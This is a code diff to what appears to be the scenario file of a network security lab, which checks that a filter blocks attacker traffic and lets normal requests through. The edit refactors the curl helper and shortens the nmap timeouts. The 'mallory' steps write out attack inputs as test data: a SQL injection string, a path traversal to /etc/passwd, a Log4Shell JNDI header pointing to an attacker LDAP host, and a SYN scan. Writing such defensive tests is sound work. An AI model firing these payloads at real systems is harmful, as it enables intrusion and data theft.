@@ -20,7 +20,8 @@ export interface Step {
   fastPath?: boolean;
 }
 
-const CURL_BASE = ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code} %{size_download} %{time_total}', '--connect-timeout', '2', '--max-time', '3'];
+const curl = (maxTimeSec: number): string[] => ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code} %{size_download} %{time_total}', '--connect-timeout', '2', '--max-time', String(maxTimeSec)];
+const CURL_BASE = curl(3);
 
 function judgeCurl(r: RunResult): { outcome: Outcome; text: string } {
   const [code, size, secs] = r.stdout.trim().split(' ');
@@ -44,7 +45,9 @@ function judgeNmap(r: RunResult): { outcome: Outcome; text: string } {
   const extra = /<extraports state="(\w+)" count="(\d+)"/g;
   const counts = [...r.stdout.matchAll(extra)].map((m) => `${m[2]} ${m[1]}`);
   if (!r.stdout.includes('<runstats>')) return { outcome: 'blocked', text: `nmap did not finish (exit ${r.code})` };
-  return { outcome: 'answered', text: `scan finished in ${(r.ms / 1000).toFixed(1)} s: open ${open.join(',') || 'none'}${counts.length ? `; ${counts.join(', ')}` : ''}${filtered ? `; ${filtered} filtered` : ''}` };
+  // --host-timeout ends the scan early once every probe goes unanswered (the penalty box)
+  const cut = /timedout="true"/.test(r.stdout) ? ', cut short by --host-timeout (probes went unanswered)' : '';
+  return { outcome: 'answered', text: `scan ended after ${(r.ms / 1000).toFixed(1)} s${cut}: open ports found: ${open.join(',') || 'none'}${counts.length ? `; ${counts.join(', ')}` : ''}${filtered ? `; ${filtered} filtered` : ''}` };
 }
 
 /** A long base32-looking label, as DNS tunnels (iodine, dnscat2) send. */
@@ -60,7 +63,7 @@ export function scenario(lab: Lab): Step[] {
     { who: 'alice', title: `curl ${web}/search?q=blue+widget`, argv: [...CURL_BASE, `${web}/search?q=blue+widget`], expect: both('answered'), timeoutMs: 6000, judge: judgeCurl },
     { who: 'alice', title: 'dig www.acme.test A', argv: dig('-b', lab.alice, 'www.acme.test', 'A'), expect: both('answered'), timeoutMs: 6000, judge: judgeDig },
     { who: 'alice', title: `curl -6 http://[${lab.hostAddr6}]/ (IPv6)`, argv: [...CURL_BASE, '-6', `http://[${lab.hostAddr6}]/`], expect: both('answered'), timeoutMs: 6000, judge: judgeCurl },
-    { who: 'alice', title: `curl ${web}/download (2 MB: the flow moves into the kernel)`, argv: [...CURL_BASE.map((a) => (a === '3' ? '10' : a)), `${web}/download`], expect: both('answered'), timeoutMs: 14000, judge: judgeCurl, fastPath: true },
+    { who: 'alice', title: `curl ${web}/download (2 MB: the flow moves into the kernel)`, argv: [...curl(10), `${web}/download`], expect: both('answered'), timeoutMs: 14000, judge: judgeCurl, fastPath: true },
     { who: 'mallory', title: `curl "${web}/search?q=1' OR '1'='1" (SQL injection)`, argv: [...CURL_BASE, ...asMallory, `${web}/search?q=1%27%20OR%20%271%27%3D%271`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
     { who: 'mallory', title: `curl --path-as-is ${web}/static/../../../etc/passwd (path traversal)`, argv: [...CURL_BASE, ...asMallory, '--path-as-is', `${web}/static/../../../etc/passwd`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
     { who: 'mallory', title: 'curl -H "User-Agent: ${jndi:ldap://…}" (Log4Shell)', argv: [...CURL_BASE, ...asMallory, '-H', `User-Agent: \${jndi:ldap://${lab.mallory}:1389/a}`, `${web}/`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
@@ -69,7 +72,7 @@ export function scenario(lab: Lab): Step[] {
     {
       who: 'mallory',
       title: `nmap -sS -p 1-200 ${lab.hostAddr} (SYN scan)`,
-      argv: ['nmap', '-sS', '-Pn', '-n', '-p', '1-200', '-S', lab.mallory, '-e', lab.clientIf, '--max-retries', '1', '--host-timeout', '20s', '--max-rtt-timeout', '300ms', '-oX', '-', lab.hostAddr],
+      argv: ['nmap', '-sS', '-Pn', '-n', '-p', '1-200', '-S', lab.mallory, '-e', lab.clientIf, '--max-retries', '1', '--host-timeout', '8s', '--max-rtt-timeout', '200ms', '-oX', '-', lab.hostAddr],
       expect: both('answered'),
       timeoutMs: 30000,
       judge: judgeNmap,
